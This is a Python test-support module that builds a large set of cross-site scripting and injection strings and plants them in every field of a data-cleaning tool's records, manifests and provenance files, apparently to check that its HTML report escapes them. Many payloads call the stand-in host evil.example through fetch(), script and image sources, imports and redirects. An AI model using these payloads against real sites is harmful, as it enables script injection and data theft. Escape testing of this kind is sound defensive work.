"""Strings that would act in a page if any field were not escaped, and a run that holds them all."""

from __future__ import annotations

import json
from collections.abc import Iterator, Sequence
from pathlib import Path
from typing import Any

import cleaner
from cleaner.finished.folder import FinishedRun
from cleaner.known import Passage, passages_as_json
from cleaner.report import render

_ACTS = (
    "alert({n})",
    "fetch('//evil.example/{n}')",
    "document.title='x{n}'",
    "new Image().src='//evil.example/{n}'",
    "top.location='//evil.example/{n}'",
    "import('//evil.example/{n}.js')",
)
_SHAPES = (
    "<script>{act}</script>",
    "</script><script>{act}</script>",
    "</ScRiPt ><sCrIpT>{act}</script >",
    "<script src=//evil.example/{n}.js></script>",
    "<img src=x onerror={act}>",
    "<img src=//evil.example/{n}.png>",
    '"><svg onload={act}>',
    "' onmouseover='{act}",
    '" autofocus onfocus="{act}',
    "` onclick=`{act}",
    "javascript:{act}",
    "data:text/html,<script>{act}</script>",
    "</style><style>*{{background:url(//evil.example/{n})}}</style>",
    "</style><link rel=stylesheet href=//evil.example/{n}.css>",
    "<style>@import '//evil.example/{n}.css'</style>",
    "<!--<script>{act}//-->",
    "--><script>{act}</script><!--",
    "]]><a href='javascript:{act}' id=x{n}>x</a>",
    "</title><iframe srcdoc='<script>{act}</script>'>",
    "<iframe src='javascript:{act}'></iframe>",
    "<object data=//evil.example/{n}></object><embed src=//evil.example/{n}>",
    "<base href=//evil.example/{n}/><form action=//evil.example/{n}><input autofocus>",
    "<meta http-equiv=refresh content='0;url=//evil.example/{n}'>",
    "<details open ontoggle={act}><video><source onerror={act}></video>",
    "<math><mtext></mtext><mglyph><style><img src=x onerror={act}></style></mglyph></math>",
    "<svg><animate onbegin={act} attributeName=x dur=1s></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x><script>{act}</script></svg>#x'/></svg>",
    "<template><script>{act}</script></template><noscript><p title='</noscript><img src=x>'>",
    "{{{{ {n} * 191 }}}}{{% include '//evil.example/{n}' %}}",
    "${{{act}}}#{{{act}}}<%= {act} %>",
    "\\u003cscript\\u003e{act}\\u003c/script\\u003e&lt;script&gt;{act}&#60;/script&#62;",
    "\u2028{act}\u2029;//\u202ekcab\u2066 \x1b[31m \x00 \ud800 {n}",
    "\\'-{act}-\\'\\\"-{act}-\\\"",
    "</textarea></select></option></td></table><script>{act}</script>",
    "<x contenteditable onblur={act} tabindex=1 id=keys name=cards>x</x>",
    "<a id=cards name=search href=//evil.example/{n} ping=//evil.example/{n}>x</a>",
    "<p style='background:url(//evil.example/{n})'>x</p><div popover ontoggle={act}></div>",
    "+ADw-script+AD4-{act}+ADw-/script+AD4-",
    "<script/x>{act}</script/x>\x0c<script\n>{act}</script\t>",
    "<plaintext><xmp><listing>{act}",
    '=HYPERLINK("//evil.example/{n}")+{act}',
    "<\x00script>{act}</script>\xa0<scr\x00ipt>{act}</script>",
    "<link rel=preconnect href=//evil.example><link rel=prefetch href=//evil.example/{n}>",
    "<audio src=//evil.example/{n} autoplay onplay={act}></audio>",
    "__proto__ constructor toString {act}",
    "<input type=image src=//evil.example/{n} onerror={act}>",
    "<body onload={act} onpageshow={act} background=//evil.example/{n}>",
    "<frameset onload={act}><frame src=//evil.example/{n}></frameset>",
    "<table background=//evil.example/{n}><tr><td onclick={act}>x",
    "<marquee onstart={act}>x</marquee><isindex action=//evil.example/{n}>",
)
PAYLOADS = tuple(
    shape.format(act=act.format(n=number), n=number)
    for number, (act, shape) in enumerate((act, shape) for act in _ACTS for shape in _SHAPES)
)
_STORY = "\n".join(
    f"Sentence {n} of the report says that the ferry from Port Ellery waits at pier {n} until "
    f"the tide of day {n} has turned and the harbour master waves."
    for n in range(12)
)


def hostile_pages(folder: Path, together: int = 30) -> Iterator[str]:
    """Reports of runs in which every payload stands in every field, some at a time."""
    for start in range(0, len(PAYLOADS), together):
        yield _page(folder / str(start), PAYLOADS[start : start + together])


def _page(folder: Path, payloads: Sequence[str]) -> str:
    """Texts, ids and URLs come in with them; rules and reasons get them in the records."""
    folder.mkdir(parents=True)
    rows: list[dict[str, Any]] = []
    for number, payload in enumerate(payloads):
        given = payload.encode("utf-8", "replace").decode()
        own = f"{_STORY.replace('Port Ellery', f'Port {number}')}\n{given}\nRead more: {given}\n"
        end = f"The end {number}.\n"
        rows += [
            {"id": f"{given} a{number}", "url": f"https://{given}/{given}", "text": own + end},
            {"id": f"{given} b{number}", "url": given, "text": f"{own}It ended {given}.\n"},
            {"id": f"{given} c{number}", "text": None},
        ]
    path = folder / "in.jsonl"
    path.write_text("".join(json.dumps(row) + "\n" for row in rows), "utf-8")
    settings = cleaner.Settings(consent=True, closest_calls=10, threshold=0.6)
    cleaner.run(path, folder / "out", settings)
    _spoil(folder / "out", payloads)
    run = FinishedRun(folder / "out")
    manifest = run.manifest
    manifest["inputs"] = manifest["skipped"] = list(payloads)
    manifest["version"] = manifest["scheme"] = payloads[0]
    manifest["settings"]["disable"] = list(payloads)
    manifest["effects"] = {payload: {"times": 1, "characters": 1} for payload in payloads}
    table = [Passage(1, payload, 20, 30, payload) for payload in payloads]
    (run.folder / "passages.json").write_bytes(passages_as_json(table))
    manifest["tables"]["passages.json"] = ""
    return render(run)


def _spoil(out: Path, payloads: Sequence[str]) -> None:
    (records,) = (out / "provenance").iterdir()
    lines = []
    for number, line in enumerate(records.read_text("utf-8").split("\n")[:-1]):
        record, payload = json.loads(line), payloads[number // 3]
        for claim in record["claims"]:
            claim[2:] = [f"{payload}@1", payload]
        record["suspects"] = record["claims"]
        record["verdict"]["because"] = record["site"] = record["untouched"] = payload
        lines.append(json.dumps(record) + "\n")
    records.write_text("".join(lines), "utf-8")
